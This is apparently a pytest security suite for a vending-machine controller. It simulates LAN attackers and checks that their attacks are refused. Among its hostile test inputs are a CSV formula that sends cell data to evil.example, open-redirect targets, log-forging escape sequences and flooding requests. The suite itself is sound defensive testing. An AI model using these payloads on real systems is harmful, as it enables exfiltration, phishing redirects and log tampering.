"""Attacks from another machine on the shop's LAN (a client in its own network namespace).

Each test tries one of issue 12's attacks for real and checks it is refused with nothing
changed. The server listens on the host end of a veth pair; genuine boards run on this
machine; the attacker's requests come from the namespace (tests/lan_fixtures.py).
"""

from __future__ import annotations

import json
import logging
import threading

import lan_fixtures
import pytest
from helpers import wait_until

from vending.protocol import wifi as proto

ATTACKER_KEY = "ab" * 32

# The namespace and the served controller (pytest finds fixtures by these names).
lan = lan_fixtures.lan
lan_env = lan_fixtures.lan_env


def _pending_p2(env, device_id="ESP32_A1B2C3D4E5F6"):
    """A genuine protocol 2 board that asked to pair and waits for the operator."""
    board = env.board(device_id)
    wait_until(lambda: env.device(device_id) is not None and env.device(device_id).fingerprint,
               message="the board asks to pair")
    wait_until(lambda: board.fingerprint is not None, message="the board learns its fingerprint")
    return board, env.device(device_id).fingerprint


def _approve(env, device_id, body=None):
    return env.operator.post(f"/esp32/devices/{device_id}/approve", json=body or {})


def _attacker_ip(env) -> str:
    return env.attacker.base_url.split("//")[1].rsplit(".", 1)[0] + ".2"


def _active_alerts(env, kind):
    env.rt.alerts.wait_idle()
    return [a for a in env.operator.get("/alerts?active=1").get_json()["alerts"] if a["kind"] == kind]


# 1. Approval is bound to the key the operator saw


def test_a_pair_request_just_before_the_click_does_not_get_the_attacker_approved(lan_env):
    env = lan_env()
    board, seen = _pending_p2(env)
    answer = env.attacker.post("/esp32/v2/pair",
                               json={"device_id": board.device_id, "public_key": ATTACKER_KEY})
    assert answer.status_code in (202, 409), answer.text

    approved = _approve(env, board.device_id, {"fingerprint": seen})
    assert approved.status_code == 200, approved.get_json()
    assert approved.get_json()["device"]["fingerprint"] == seen
    wait_until(lambda: board.secret is not None and env.device(board.device_id).status == "online",
               timeout=10, message="the genuine board pairs and polls")
    assert env.rt.wifi.keys.secret(board.device_id) == board.secret
    again = env.attacker.post("/esp32/v2/pair",
                              json={"device_id": board.device_id, "public_key": ATTACKER_KEY})
    assert again.status_code == 409


def test_a_second_key_for_a_waiting_board_is_a_conflict_on_the_page_and_in_an_alert(lan_env):
    env = lan_env()
    board, seen = _pending_p2(env)
    env.attacker.post("/esp32/v2/pair", json={"device_id": board.device_id,
                                              "public_key": ATTACKER_KEY})
    listed = {d["device_id"]: d for d in env.operator.get("/esp32/devices/list").get_json()["devices"]}
    conflict = listed[board.device_id]["conflict"]
    assert conflict["fingerprint"] == proto.key_fingerprint(ATTACKER_KEY)
    assert conflict["source"] == _attacker_ip(env)
    assert listed[board.device_id]["fingerprint"] == seen  # the first key was not replaced
    assert wait_until(lambda: _active_alerts(env, "device_conflict"), message="conflict alert")

    # Neither key is approved until the operator names one.
    unnamed = _approve(env, board.device_id)
    assert unnamed.status_code == 409 and unnamed.get_json()["error"] == "key_conflict"
    wrong = _approve(env, board.device_id, {"fingerprint": "0000-0000"})
    assert wrong.status_code == 409 and wrong.get_json()["error"] == "fingerprint_mismatch"
    assert env.rt.wifi.keys.get(board.device_id).approved is False


def test_approving_a_fingerprint_that_is_not_the_boards_is_refused_and_changes_nothing(lan_env):
    env = lan_env()
    board, seen = _pending_p2(env)
    refused = _approve(env, board.device_id, {"fingerprint": "0000-0000"})
    assert refused.status_code == 409 and refused.get_json()["error"] == "fingerprint_mismatch"
    record = env.rt.wifi.keys.get(board.device_id)
    assert not record.approved and record.server_key is None
    assert env.rt.wifi.keys.secret(board.device_id) is None


# 2. No downgrade, either way


def test_an_unsigned_protocol_1_register_cannot_downgrade_a_waiting_protocol_2_board(lan_env):
    env = lan_env(slots=3)
    board, seen = _pending_p2(env)
    downgrade = env.attacker.post("/esp32/register", json={"device_id": board.device_id,
                                                          "ip_address": "10.0.0.66"})
    assert downgrade.status_code == 409, downgrade.text
    device = env.device(board.device_id)
    assert device.protocol == 2 and device.authenticated
    assert env.rt.wifi.keys.get(board.device_id).protocol == 2

    assert _approve(env, board.device_id, {"fingerprint": seen}).status_code == 200
    wait_until(lambda: env.device(board.device_id).polls_held > 0, timeout=10,
               message="the genuine board polls")
    # The attacker's legacy poll must not take the vend.
    stop = threading.Event()

    def attacker_polls() -> None:
        while not stop.is_set():
            env.attacker.get(f"/esp32/commands/{board.device_id}")

    thread = threading.Thread(target=attacker_polls, name="lan-legacy-poller")
    thread.start()
    try:
        vend = env.operator.post("/vend/2?wait=5").get_json()
    finally:
        stop.set()
        thread.join()
    assert vend["status"] == "success", vend
    assert [run.slot for run in board.motor_runs] == [2]


def test_a_pair_request_cannot_upgrade_a_waiting_protocol_1_board(lan_env):
    env = lan_env()
    board = env.board("ESP32_0A0B0C0D0E0F", legacy=True)
    wait_until(lambda: env.device(board.device_id) is not None, message="legacy board registers")
    upgrade = env.attacker.post("/esp32/v2/pair", json={"device_id": board.device_id,
                                                        "public_key": ATTACKER_KEY})
    assert upgrade.status_code == 409, upgrade.text
    assert env.device(board.device_id).protocol == 1
    assert env.rt.wifi.keys.get(board.device_id).protocol == 1
    assert env.device(board.device_id).info()["conflict"]["protocol"] == 2
    # Approving without choosing is refused; nothing becomes protocol 2 by itself.
    assert _approve(env, board.device_id).status_code == 409
    assert env.rt.wifi.keys.get(board.device_id).approved is False


# 3. Liveness comes only from the board itself


def test_unsigned_data_cannot_keep_a_silent_paired_board_online(lan_env):
    env = lan_env(vend_max_age=3.0)
    board, seen = _pending_p2(env)
    assert _approve(env, board.device_id, {"fingerprint": seen}).status_code == 200
    wait_until(lambda: env.device(board.device_id).status == "online", timeout=10,
               message="online")
    board.stop()
    stop = threading.Event()
    answers: list[int] = []

    def keep_alive() -> None:
        while not stop.is_set():
            answers.append(env.attacker.post("/esp32/data", json={
                "device_id": board.device_id, "ip_address": "10.9.9.9"}).status_code)
            stop.wait(0.1)

    thread = threading.Thread(target=keep_alive, name="lan-keep-alive")
    thread.start()
    try:
        vend = env.operator.post("/vend/1?wait=6").get_json()
        wait_until(lambda: env.device(board.device_id).status == "offline", timeout=5,
                   message="the silent board goes offline")
    finally:
        stop.set()
        thread.join()
    assert vend["status"] not in ("pending", "sent", "success"), vend
    assert set(answers) == {401}
    assert env.device(board.device_id).ip_address not in ("10.9.9.9", _attacker_ip(env))


# 4. The approval list cannot be flooded


def test_get_polls_for_unknown_ids_never_list_a_board(lan_env):
    env = lan_env()
    answers = env.attacker.many("GET", [f"/esp32/commands/JUNK{i:04d}" for i in range(64)])
    assert {a.status_code for a in answers} == {404}
    assert env.rt.registry.devices() == [] and env.rt.wifi.keys.all() == []
    genuine = env.board("ESP32_112233445566", legacy=True)
    wait_until(lambda: env.device(genuine.device_id) is not None, message="a real board still registers")


def test_one_address_cannot_fill_the_waiting_list(lan_env):
    env = lan_env()
    codes = [env.attacker.post("/esp32/register", json={"device_id": f"FAKE{i}"}).status_code
             for i in range(8)]
    assert codes == [200] * 4 + [429] * 4
    pair = env.attacker.post("/esp32/v2/pair", json={"device_id": "FAKE9", "public_key": ATTACKER_KEY})
    assert pair.status_code == 429
    board, _ = _pending_p2(env)  # a board elsewhere is still listed
    assert len(env.rt.registry.devices()) == 5


def test_waiting_entries_that_never_come_back_expire(lan_env):
    env = lan_env(wifi_pending_expiry=0.5)
    for i in range(3):
        assert env.attacker.post("/esp32/register", json={"device_id": f"GONE{i}"}).status_code == 200
    wait_until(lambda: env.rt.registry.devices() == [], timeout=5, message="entries expire")
    assert env.rt.wifi.keys.all() == []
    assert env.attacker.post("/esp32/register", json={"device_id": "GONE0"}).status_code == 200


@pytest.mark.parametrize("headers", [
    {"Origin": "http://evil.example", "Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "cors"},
    {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors", "Sec-Fetch-Dest": "image"},
    {"Origin": "null"},
], ids=["fetch", "img", "sandboxed-form"])
def test_a_web_page_cannot_make_a_visitors_browser_register_boards(lan_env, headers):
    env = lan_env()
    form = env.attacker.post("/esp32/register", data=json.dumps({"device_id": "BROWSER1"}),
                             headers={**headers, "Content-Type": "text/plain"})
    assert form.status_code == 403 and form.json()["error"] == "forbidden"
    image = env.attacker.get("/esp32/commands/BROWSER2", headers=headers)
    assert image.status_code == 403
    assert env.rt.registry.devices() == [] and env.rt.wifi.keys.all() == []




# 5. Refused requests cannot fill the disk


def test_a_flood_of_refused_requests_writes_a_bounded_number_of_audit_rows(lan_env):
    env = lan_env(audit_refusals_per_minute=5)
    before = len(env.operator.get("/audit?limit=1000").get_json()["entries"])
    answers = env.attacker.many("POST", ["/vend/1"] * 300)
    assert {a.status_code for a in answers} == {401}
    rows = env.rt.operations.audit(0, None, 10_000)
    # One row for the attacker's address in each minute the flood touched (at most two),
    # and at most one summary row per finished minute; never one per request.
    assert len(rows) - before <= 4, [r.detail for r in rows]
    assert any(r.source == _attacker_ip(env) for r in rows)


def test_a_flood_of_refused_requests_writes_a_bounded_number_of_log_lines(lan_env, caplog):
    """journald drops a service's lines past its rate limit, our ALERT lines among them: a
    flood from the LAN must not become a flood of lines."""
    env = lan_env(audit_refusals_per_minute=5)
    with caplog.at_level(logging.INFO):
        answers = env.attacker.many("POST", ["/vend/1"] * 150)
        answers += env.attacker.many("GET", ["/slots", "/no-such-page", "/esp32/v2/commands"] * 50)
        assert {a.status_code for a in answers} == {401}
        lines = [r.getMessage() for r in caplog.records if r.name == "vending.http"]
        # One line for the attacker's address in each minute the flood touched (at most two)
        # and at most one summary of the rest; never one per request.
        assert 1 <= len(lines) <= 3, lines
        assert _attacker_ip(env) in lines[0]
        caplog.clear()
        # The operator at this machine still sees every one of their own mistakes.
        for _ in range(3):
            assert env.operator.post("/vend/99").status_code == 400
        assert len([r for r in caplog.records if "refused POST /vend/99" in r.getMessage()]) == 3


# 6. The sign-in redirect stays on this server


@pytest.mark.parametrize("target", ["/%09/evil.example", "/%0A/evil.example", "/%0D%0A/x",
                                    "/\\evil.example", "//evil.example", "/%20/evil.example"])
def test_the_sign_in_redirect_stays_on_this_server(lan_env, target):
    env = lan_env(admin_token="t" * 32)
    answer = env.attacker.get(f"/login?token={'t' * 32}&next={target}")
    assert answer.status_code in (302, 303), answer.text
    location = answer.headers["Location"]
    assert location == "/" or location.endswith(f"{env.server.host}:{env.server.port}/"), location


# 7. No unauthenticated input reaches a 500


@pytest.mark.parametrize("name,method,path,kwargs", [
    ("ipv6-origin", "POST", "/vend/1", {"headers": {"Origin": "http://[::1"}}),
    ("deep-json", "POST", "/esp32/register",
     {"data": "[" * 30000, "headers": {"Content-Type": "application/json"}}),
    ("deep-object", "POST", "/esp32/v2/pair",
     {"data": '{"a":' * 12000, "headers": {"Content-Type": "application/json"}}),
    ("long-integer", "POST", "/esp32/register",
     {"data": '{"device_id": "X", "slots_available": ' + "9" * 5000 + "}",
      "headers": {"Content-Type": "application/json"}}),
    ("surrogate-slot-name", "PATCH", "/slots/1",
     {"data": '{"name": "\\ud800"}', "headers": {"Content-Type": "application/json",
                                                 "Authorization": "Bearer " + "t" * 32}}),
    ("surrogate-device-id", "POST", "/esp32/data",
     {"data": '{"device_id": "\\udfff", "x": "\\ud800"}',
      "headers": {"Content-Type": "application/json"}}),
])
def test_hostile_input_gets_a_400_json_error_and_one_log_line_not_a_500(lan_env, caplog, name,
                                                                         method, path, kwargs):
    env = lan_env(admin_token="t" * 32)
    caplog.set_level("INFO")
    answer = env.attacker.request(method, path, **kwargs)
    assert answer.status_code == 400, (answer.status_code, answer.text[:300])
    assert answer.json()["error"] == "bad_request" and answer.json()["detail"]
    assert not [r for r in caplog.records if r.exc_info], "a traceback was logged"
    assert [r for r in caplog.records if "refused" in r.getMessage() and "400" in r.getMessage()]


# 8. Exports are safe to open


def test_board_reported_text_in_csv_exports_cannot_run_as_a_formula(lan_env):
    env = lan_env(auto_approve_devices=True, slots=3)
    device_id = "-2.1"  # a valid id a spreadsheet reads as a formula
    assert env.attacker.post("/esp32/register", json={"device_id": device_id}).status_code == 200
    result: dict = {}
    vend = threading.Thread(target=lambda: result.update(
        env.operator.post("/vend/1?wait=5").get_json()), name="lan-operator-vend")
    vend.start()
    command = wait_until(lambda: env.attacker.get(f"/esp32/commands/{device_id}").json(),
                         message="the vend reaches the attacker's board")
    assert command["command"] == "VEND"
    env.attacker.post("/esp32/confirm", json={
        "device_id": device_id, "slot": 1, "success": True,
        "message": '=HYPERLINK("http://evil.example/?"&A1,"Click")'})
    vend.join(10)
    assert result["status"] == "success"
    export = env.operator.get("/transactions?format=csv").get_data(as_text=True)
    rows = export.splitlines()[1:]
    assert rows and all(",-2.1," not in row and ",=" not in row for row in rows), export
    assert ",'-2.1," in rows[0] and "'=HYPERLINK" in rows[0]
    audit = env.operator.get("/audit?format=csv").get_data(as_text=True)
    assert not [line for line in audit.splitlines() if any(
        cell.startswith(("=", "+", "-", "@")) for cell in line.split(","))]


# 9. Logs cannot be forged and do not leak


def test_control_characters_from_the_network_are_escaped_in_the_log(lan_env):
    import io

    from vending.logs import configure_logging

    env = lan_env()
    stream = io.StringIO()
    handler = configure_logging("INFO", stream)
    try:
        env.attacker.get("/esp32/commands/%1b%5b2J%1b%5b31mOWNED%0a2026-12-01 INFO vending: fake")
        env.attacker.post("/esp32/data", json={"device_id": "X", "line": "\x1b[31mred\r\nforged"})
        env.attacker.post("/vend/1%1b%5b0m")
    finally:
        import logging

        logging.getLogger().removeHandler(handler)
    text = stream.getvalue()
    assert "\\x1b[2J" in text, text
    assert "\x1b" not in text and "\r" not in text
    assert not any(line.startswith("2026-12-01 INFO vending: fake") for line in text.splitlines())


# 10. What an unauthenticated network client sees in /status


def test_status_shows_an_unauthenticated_network_client_health_and_counts_only(lan_env):
    env = lan_env(admin_token="t" * 32)
    board, seen = _pending_p2(env)
    assert _approve(env, board.device_id, {"fingerprint": seen}).status_code == 200
    wait_until(lambda: env.device(board.device_id).status == "online", timeout=10, message="online")
    stranger = env.attacker.get("/status")
    assert stranger.status_code == 200
    text = stranger.text
    for secret in (board.device_id, seen, env.device(board.device_id).ip_address, "ip_address",
                   "fingerprint", "active_device"):
        assert secret not in text, secret
    body = stranger.json()
    assert body["online"] is True and body["device_counts"] == {"total": 1, "online": 1,
                                                                "pending_approval": 0}
    assert set(body["transactions"]) >= {"success", "failed", "unknown"}
    # This machine and a signed-in operator see everything the seed's /status had.
    for full in (env.operator.get("/status").get_json(),
                 env.attacker.get("/status", headers={"Authorization": "Bearer " + "t" * 32}).json()):
        assert full["devices"][0]["device_id"] == board.device_id
        assert full["active_device"] == board.device_id and "slots" in full


def test_the_operator_token_is_never_printed_and_the_banner_says_how_to_get_the_link(
        tmp_path, monkeypatch):
    import subprocess
    import sys
    from pathlib import Path

    from helpers import test_config

    from vending import startup
    from vending.web.auth import load_or_create_token

    root = Path(__file__).resolve().parents[1]
    data = tmp_path / "data"
    token, _ = load_or_create_token(data)
    monkeypatch.setattr(startup, "lan_address", lambda: "192.0.2.10")
    text = startup.banner(test_config(data, host="0.0.0.0", port=5000), ["wifi"],
                          (data / "admin_token").resolve())
    assert token not in text
    lines = text.splitlines()
    index = next(i for i, line in enumerate(lines) if "sign in once" in line)
    command = lines[index + 1].split()
    assert command[1:4] == ["-m", "vending.doctor", "--sign-in-link"]
    assert str((data / "admin_token").resolve()) in lines[index + 2]
    link = subprocess.run([sys.executable, str(root / "check_system.py"), *command[3:]],
                          capture_output=True, text=True, timeout=60)
    assert link.stdout.strip() == f"http://192.0.2.10:5000/login?token={token}", link.stderr
